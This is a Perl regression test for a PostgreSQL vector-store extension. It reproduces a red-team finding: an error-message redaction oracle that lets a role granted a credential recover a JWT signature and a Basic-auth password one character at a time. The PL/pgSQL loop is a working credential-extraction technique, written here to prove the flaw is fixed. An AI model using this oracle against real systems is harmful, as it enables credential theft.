# Red team, round four: the scrubber's cut-off rule (a string ending with a
# start of a secret is redacted from half the secret, at least 16 bytes) is
# still an oracle for any secret whose first half is not secret. A JWT used
# as a key (gateways in front of the API take them) has a fixed header
# ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.") and a payload of claims the
# caller knows; only the signature, at the end, is secret. Likewise a
# credential header "Basic base64(user:password)" whose user is known.
# A role granted the credential sends vs_file_get('zz' || known || c): the
# API echoes "No such File object: <id>" and the detail shows "[redacted]"
# exactly when known || c is a start of the secret, so the signature (or
# the password) comes one character at a time, as in round three.
# Fails today: alice recovers the whole key and the header value.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use MIME::Base64;
use VsTest;

my $emu = VsTest::Emulator->start;
my $node = VsTest::new_node('knownhalf', $emu);
$node->start;
my @chars = ('a' .. 'z', 'A' .. 'Z', '0' .. '9');
my $sig = join('', map { $chars[int(rand(@chars))] } 1 .. 16);
my $known_key = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ2ZWN0b3JzdG9yZSJ9.';
my $key = $known_key . $sig;
my $pass = join('', map { $chars[int(rand(@chars))] } 1 .. 12);
my $basic = 'Basic ' . encode_base64("vectorstore-gateway:$pass", '');
my $known_basic = 'Basic ' . substr(encode_base64('vectorstore-gateway:', ''), 0, 24);
my $url = $emu->url . '/v1';
$node->safe_psql('postgres', qq{
	CREATE EXTENSION vectorstore;
	CREATE ROLE alice LOGIN;
	GRANT USAGE ON SCHEMA vectorstore TO alice;
	SELECT vectorstore.vs_credential_set('team', '$key', base_url => '$url',
		headers => jsonb_build_object('X-Gateway-Authorization', '$basic'));
	SELECT vectorstore.vs_credential_grant('team', 'alice');
});

# one statement as alice, from what she knows, one character at a time
sub recover
{
	my ($known, $alphabet) = @_;
	my ($ret, $out, $err) = $node->psql('postgres', qq{
	SET vectorstore.credential = 'team';
	DO \$\$
	DECLARE known text := '$known'; c text; d text; found boolean;
	BEGIN
		LOOP
			found := false;
			FOREACH c IN ARRAY regexp_split_to_array('$alphabet', '') LOOP
				d := '';
				BEGIN
					PERFORM * FROM vectorstore.vs_file_get('zz' || known || c);
				EXCEPTION WHEN OTHERS THEN
					GET STACKED DIAGNOSTICS d = PG_EXCEPTION_DETAIL;
				END;
				IF d ~ 'zz\\[redacted\\]\$' THEN known := known || c; found := true; EXIT; END IF;
			END LOOP;
			EXIT WHEN NOT found OR length(known) > 200;
		END LOOP;
		RAISE NOTICE 'recovered: %', known;
	END \$\$;
}, extra_params => [ '-U', 'alice' ], on_error_stop => 0);
	my ($recovered) = $err =~ /recovered: (.*)/;
	note('recovered: ' . ($recovered // "(nothing: $err)"));
	return $recovered // '';
}

my $b64 = join('', 'a' .. 'z', 'A' .. 'Z', '0' .. '9') . '+/=';
my $got = recover($known_key, join('', @chars));
note("key: $key");
isnt($got, $key, 'a role granted a credential cannot read a key whose first half it knows');
isnt(length($got), length($key) - 1, '... nor all but one character of it');

$got = recover($known_basic, $b64);
note("header: $basic");
isnt($got, $basic, 'nor a header value (Basic) whose user it knows');

$node->stop;
$emu->stop;
done_testing();
